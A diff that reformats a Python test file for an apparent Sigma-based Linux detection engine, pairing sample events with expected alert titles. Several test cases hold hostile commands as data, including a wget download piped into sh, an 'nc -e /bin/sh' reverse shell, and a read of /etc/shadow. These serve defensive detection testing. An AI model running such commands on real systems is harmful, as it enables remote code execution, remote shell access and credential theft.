@@ -19,7 +19,9 @@ def engine() -> SigmaEngine:
 
 
 def proc(filename: str, *argv: str, parent: str = "sh") -> ProcessExec:
-    return ProcessExec(ts=0, ppid=1, uid=33, comm=filename.rsplit("/", 1)[-1], filename=filename, argv=argv, parent_comm=parent)
+    return ProcessExec(
+        ts=0, ppid=1, uid=33, comm=filename.rsplit("/", 1)[-1], filename=filename, argv=argv, parent_comm=parent
+    )
 
 
 def audit(types: tuple[str, ...], **kw: object) -> AuditEvent:
@@ -36,14 +38,59 @@ CASES: list[tuple[Event, str | None]] = [
     (proc("/bin/sh", "sh", "-c", "wget -qO- http://x/i.sh | sh"), "Download Piped Into A Shell"),
     (proc("/bin/chmod", "chmod", "+x", "/tmp/x"), "Executable Permission Set In A Temporary Directory"),
     (proc("/bin/chmod", "chmod", "+x", "/usr/local/bin/x"), None),
-    (audit(("SYSCALL", "PATH"), syscall="openat", exe="/bin/cat", paths=("/etc/shadow",)), "Audited Access To Shadow Files"),
+    (
+        audit(("SYSCALL", "PATH"), syscall="openat", exe="/bin/cat", paths=("/etc/shadow",)),
+        "Audited Access To Shadow Files",
+    ),
     (audit(("SYSCALL", "PATH"), syscall="openat", exe="/usr/bin/passwd", paths=("/etc/shadow",)), None),
     (audit(("SYSCALL",), syscall="finit_module", exe="/sbin/insmod"), "Kernel Module Loaded"),
     (audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-l", "-p", "9")), None),
-    (audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-e", "/bin/sh", "1.2.3.4")), "Netcat Style Tool Executed With Execute Option"),
-    (NetConnect(ts=0, op="connect", comm="sh", family=2, protocol="tcp", saddr="10.0.0.2", sport=1, daddr="10.0.0.1", dport=4444), "Shell Process Opening An Outbound Connection"),
-    (NetConnect(ts=0, op="connect", comm="sh", family=2, protocol="tcp", saddr="127.0.0.1", sport=1, daddr="127.0.0.1", dport=4444), None),
-    (NetConnect(ts=0, op="accept", comm="sh", family=2, protocol="tcp", saddr="10.0.0.2", sport=1, daddr="10.0.0.1", dport=4444), None),
+    (
+        audit(("SYSCALL", "EXECVE"), syscall="execve", argv=("nc", "-e", "/bin/sh", "1.2.3.4")),
+        "Netcat Style Tool Executed With Execute Option",
+    ),
+    (
+        NetConnect(
+            ts=0,
+            op="connect",
+            comm="sh",
+            family=2,
+            protocol="tcp",
+            saddr="10.0.0.2",
+            sport=1,
+            daddr="10.0.0.1",
+            dport=4444,
+        ),
+        "Shell Process Opening An Outbound Connection",
+    ),
+    (
+        NetConnect(
+            ts=0,
+            op="connect",
+            comm="sh",
+            family=2,
+            protocol="tcp",
+            saddr="127.0.0.1",
+            sport=1,
+            daddr="127.0.0.1",
+            dport=4444,
+        ),
+        None,
+    ),
+    (
+        NetConnect(
+            ts=0,
+            op="accept",
+            comm="sh",
+            family=2,
+            protocol="tcp",
+            saddr="10.0.0.2",
+            sport=1,
+            daddr="10.0.0.1",
+            dport=4444,
+        ),
+        None,
+    ),
 ]
 
 
@@ -62,10 +109,22 @@ def write(tmp: Path, name: str, t: str, ls: str, det: str) -> None:
 
 
 def test_unsupported_rules_are_reported_with_reasons(tmp_path: Path) -> None:
-    write(tmp_path, "a.yml", "windows", "    product: windows\n    category: process_creation", "    sel:\n        Image: x\n    condition: sel")
+    write(
+        tmp_path,
+        "a.yml",
+        "windows",
+        "    product: windows\n    category: process_creation",
+        "    sel:\n        Image: x\n    condition: sel",
+    )
     write(tmp_path, "b.yml", "unknown field", LINUX_PC, "    sel:\n        OriginalFileName: x\n    condition: sel")
     write(tmp_path, "c.yml", "fieldref", LINUX_PC, "    sel:\n        Image|fieldref: CommandLine\n    condition: sel")
-    write(tmp_path, "d.yml", "ok", LINUX_PC, "    sel:\n        Image|endswith: '/id'\n        CommandLine|re: '^id$'\n    condition: sel")
+    write(
+        tmp_path,
+        "d.yml",
+        "ok",
+        LINUX_PC,
+        "    sel:\n        Image|endswith: '/id'\n        CommandLine|re: '^id$'\n    condition: sel",
+    )
     (tmp_path / "e.yml").write_text("title: broken\nlogsource: [\n")
     write(tmp_path, "f.yml", "bad modifier", LINUX_PC, "    sel:\n        Image|nosuchmod: x\n    condition: sel")
     eng = SigmaEngine.load([tmp_path])
